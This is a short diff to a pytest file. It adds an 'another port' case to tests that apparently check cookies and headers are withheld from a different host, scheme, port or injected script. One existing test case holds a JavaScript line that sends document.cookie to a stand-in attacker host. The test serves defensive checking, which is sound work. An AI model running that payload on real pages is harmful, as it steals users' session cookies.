@@ -202,6 +202,9 @@ def test_a_kept_page_names_its_secrets_and_tells_none(app: Flask, upstream: Upst
     [
         pytest.param({"url": "http://93.184.216.35/"}, ["cookies", "headers"], id="another host"),
         pytest.param({"url": TARGET.replace("http:", "https:")}, ["cookies", "headers"], id="another scheme"),
+        pytest.param(
+            {"url": TARGET.replace("/page", ":443/page")}, ["cookies", "headers"], id="another port"
+        ),
         pytest.param({"js": "fetch('//evil.example/' + document.cookie)"}, ["cookies", "headers"], id="js"),
         pytest.param(
             {"url": "http://93.184.216.35/", "cookies": {"session": "another"}}, ["headers"], id="a part"
